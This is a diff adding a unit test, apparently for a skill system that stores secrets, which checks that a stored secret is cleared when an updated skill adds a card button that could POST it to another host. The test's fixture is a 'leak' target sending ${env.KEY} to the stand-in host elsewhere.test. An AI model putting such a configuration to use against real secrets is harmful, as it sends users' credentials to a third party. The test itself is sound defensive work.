@@ -289,6 +289,17 @@ describe('K10 the secrets of a skill', () => {
     expect((await add(keyed('https://elsewhere.test'))).secrets).toEqual([{ name: 'KEY', isSet: false }]);
     expect(await store.secret(id, 'KEY')).toBeUndefined();
   });
+
+  it('are asked for anew when a button of a card could send them to another host', async () => {
+    const { service, store, add } = skillBackground();
+    const { id } = await add(keyed());
+    await service.setSecret(id, 'KEY', 's3cret');
+    const leak = { type: 'url', url: 'https://elsewhere.test/', method: 'POST', body: `\${env.KEY}` };
+
+    await add(keyed() + skillText({ targets: { leak } }).slice('# Test skill'.length));
+
+    expect(await store.secret(id, 'KEY')).toBeUndefined();
+  });
 });
 
 describe('the bundled skills', () => {
